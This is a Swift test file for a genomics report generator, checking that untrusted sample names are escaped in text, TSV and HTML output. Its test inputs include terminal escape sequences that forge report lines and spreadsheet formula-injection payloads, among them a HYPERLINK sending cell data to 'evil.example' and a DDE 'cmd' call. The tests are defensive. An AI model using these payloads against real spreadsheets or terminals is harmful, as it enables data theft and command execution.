import Foundation
import Profile
import Reports
import Testing

/// Text from input files reaches people safely (review 2026-12-07, defects 9, 10 and 16).
@Suite struct UntrustedTextTests {
    /// The probe's sample name: a carriage return that rewrites the line, an erase and a conceal.
    private static let forged = "PATIENT7\rsample PATIENT7: suggested group A (candidates: A)\u{1B}[K\u{1B}[8m"

    private func report(sample: String, variant: String = "chr12:25245350:C:T", warnings: [String] = []) -> MatchReport {
        var run = RunMetadata()
        run.knowledgeBaseVersion = "0.4.0"
        run.warnings = warnings
        let record = SupportingRecord(variant: variant, filter: "PASS", vaf: 0.5, depth: 100)
        let alteration = Alteration(
            gene: "KRAS", alteration: "p.G12D", groups: ["D"], pathway: "RAS/MAPK", ruleID: "D-KRAS-HOTSPOT",
            evidenceLevel: .named, sources: [], basis: "", transcript: "", hgvsc: "", hgvsp: "", records: [record])
        return MatchReport(run: run, samples: [SampleProfile(sample: sample, alterations: [alteration])])
    }

    @Test func controlCharactersAreEscapedVisibly() {
        #expect(UntrustedText.escaped("a\u{1B}[31mb\rc\u{7F}d\u{9B}e\tf\u{0}") == "a\\x1B[31mb\\x0Dc\\x7Fd\\u{9B}e\\x09f\\x00")
        #expect(UntrustedText.escaped("TUMOR é ü 腫瘍") == "TUMOR é ü 腫瘍")
    }

    @Test func aSampleNameCannotRewriteTheTextReportsLines() {
        let text = TextReport.render(report(sample: Self.forged, warnings: ["sample \u{1B}]0;title\u{7}"]), colored: true)
        #expect(!text.unicodeScalars.contains { $0.value == 0x0D || $0.value == 0x07 })
        #expect(
            text.contains("sample PATIENT7\\x0Dsample PATIENT7: suggested group A (candidates: A)\\x1B[K\\x1B[8m: suggested group D (candidates: D)"))
        #expect(text.contains("warning: sample \\x1B]0;title\\x07\n"))
        // The report's own colour stays: the sample line is bold.
        #expect(text.contains("\u{1B}[1msample PATIENT7\\x0D"))
        let lines = text.split(separator: "\n")
        #expect(lines.filter { $0.contains("suggested group") }.count == 1)
    }

    @Test(arguments: ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx", "\rx"])
    func aTSVCellThatASpreadsheetWouldRunIsMadeInert(name: String) throws {
        let row = try #require(TSVReport.render(report(sample: name)).split(separator: "\n").dropFirst().first)
        let cell = try #require(row.split(separator: "\t", omittingEmptySubsequences: false).first)
        #expect(cell.hasPrefix("'"), "\(cell)")
        #expect(!cell.unicodeScalars.contains { $0.value < 0x20 })
        let summary = CohortSummary.render([report(sample: name)]).split(separator: "\n")[1]
        #expect(summary.split(separator: "\t", omittingEmptySubsequences: false)[1].hasPrefix("'"), "\(summary)")
    }

    @Test func ordinaryCellsAreUnchanged() {
        #expect(UntrustedText.tsvCell("TUMOR") == "TUMOR")
        #expect(UntrustedText.tsvCell("0.50") == "0.50")
    }

    @Test func aHugeAlleleIsAbbreviatedInTextAndHTMLAndWholeInJSON() throws {
        let insertion = "A" + String(repeating: "GAAGTACTTC", count: 1000)
        let variant = "chr13:28034105:A:\(insertion)"
        #expect(UntrustedText.abbreviatedVariant(variant) == "chr13:28034105:A:ins(10,000 bp)")
        #expect(UntrustedText.abbreviatedVariant("chr13:28034105:\(insertion):A") == "chr13:28034105:del(10,000 bp):A")
        #expect(UntrustedText.abbreviatedVariant("chr12:25245350:C:T") == "chr12:25245350:C:T")
        let huge = report(sample: "T", variant: variant)
        let text = TextReport.render(huge)
        #expect(text.contains("chr13:28034105:A:ins(10,000 bp)"))
        #expect(text.count < 2_000, "\(text.count)")
        #expect(try HTMLReport.render([huge]).contains("chr13:28034105:A:ins(10,000 bp)"))
        #expect(String(decoding: try JSONReport.render(huge), as: UTF8.self).contains(variant))
    }

    @Test func aLongCellDoesNotWidenEveryRow() {
        let lines = TextTable.lines([["a", "x"], [String(repeating: "b", count: 500), "y"], ["c", "z"]])
        #expect(lines[0] == "a" + String(repeating: " ", count: UntrustedText.paddingCap - 1) + "  x")
        #expect(lines[1] == String(repeating: "b", count: 500) + "  y")
    }
}
